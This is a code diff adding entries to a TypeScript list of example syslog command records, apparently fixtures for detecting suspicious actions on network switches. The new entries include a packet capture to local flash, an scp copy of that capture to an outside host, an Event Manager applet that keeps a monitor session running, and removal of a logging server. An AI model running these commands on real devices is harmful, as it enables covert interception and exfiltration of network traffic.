@@ -162,9 +162,20 @@ export const examples: readonly RecordExample[] = [
   ...commandExamples(SYSLOG, FAILED, [
     {
       acts: ['session-refused'],
-      commands: ['configure terminal ; monitor session 5', 'configure terminal ; no monitor session 5'],
+      commands: [
+        'configure terminal ; monitor session 5',
+        'configure terminal ; no monitor session 5',
+        'ethanalyzer local interface inband write bootflash:u.pcap',
+      ],
     },
-    { acts: [], commands: ['configure terminal ; no logging server 192.0.2.51'] },
+    {
+      acts: [],
+      commands: [
+        'configure terminal ; no logging server 192.0.2.51',
+        'copy bootflash:u.pcap scp://netops-1@203.0.113.9/u.pcap vrf management',
+        'configure terminal ; event manager applet TAP2 ; action 1.0 cli monitor session 5 ; no shut',
+      ],
+    },
   ]),
   ...MESSAGES.map(([acts, text]) => ({
     name: text.slice(0, 120),
